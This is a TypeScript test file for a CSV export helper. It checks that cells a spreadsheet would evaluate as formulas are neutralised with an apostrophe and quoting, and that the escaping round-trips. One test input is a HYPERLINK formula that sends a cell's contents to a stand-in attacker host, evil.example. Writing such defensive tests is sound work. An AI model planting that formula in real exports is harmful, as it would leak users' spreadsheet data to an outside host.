import t from 'tap'
import { csvCell, csvRow, csvValue } from '../src/http/csv.ts'

/** What a CSV reader gives back for one quoted cell (RFC 4180 unquoting). */
const unquote = (cell: string) => {
  if (!cell.startsWith('"') || !cell.endsWith('"')) throw new Error(`not quoted: ${cell}`)
  return cell.slice(1, -1).replaceAll('""', '"')
}

const FORMULA_STARTS = ['=', '+', '-', '@', '\t', '\r', '\uFF1D', '\uFF0B', '\uFF0D', '\uFF20']

t.test('a cell that a spreadsheet would evaluate gets a leading apostrophe and quotes', async t => {
  for (const c of FORMULA_STARTS) {
    t.equal(unquote(csvCell(`${c}1+1`)), `'${c}1+1`, JSON.stringify(c))
  }
  t.equal(csvCell('=HYPERLINK("http://evil.example/?d="&A1,"x")'), '"\'=HYPERLINK(""http://evil.example/?d=""&A1,""x"")"')
  t.equal(csvCell("'=x"), '"\'\'=x"', 'an apostrophe already before a formula character gets one more')
  t.equal(csvCell("'plain"), '"\'plain"', 'an apostrophe before text is left alone')
  t.equal(csvCell('a;=cmd'), '"a;=cmd"', 'quoted: a spreadsheet splitting on ; cannot start a cell inside it')
  t.equal(csvCell(-5), '"-5"', 'a finite number is a number, not a formula')
  t.equal(csvCell('-5'), '"\'-5"', 'text that looks like a number is text')
  t.equal(csvCell(-Infinity), '"\'-Infinity"')
  t.equal(csvCell(null), '""')
  t.equal(csvCell(undefined), '""')
  t.equal(csvCell(true), '"true"')
  t.equal(csvRow(['a', '+b', 3]), '"a","\'+b","3"\r\n')
})

t.test('csvValue undoes exactly what csvCell added, for any value', async t => {
  // Every string of up to four characters over an alphabet of the characters that matter.
  const alphabet = ["'", '=', '-', '\t', 'a', '"', ',', '\uFF20', ' ']
  let values = ['']
  const all: string[] = ['']
  for (let len = 1; len <= 4; len++) {
    values = values.flatMap(v => alphabet.map(c => v + c))
    all.push(...values)
  }
  let wrong = 0
  for (const v of all) if (csvValue(unquote(csvCell(v))) !== v) wrong++
  t.equal(wrong, 0, `${all.length} values round-trip`)
  t.equal(csvValue("'=x"), '=x', 'a hand-written leading apostrophe before a formula character is read as the escape')
  t.equal(csvValue("'abc"), "'abc", 'any other leading apostrophe is data')
  t.equal(csvValue('-5'), '-5')
})
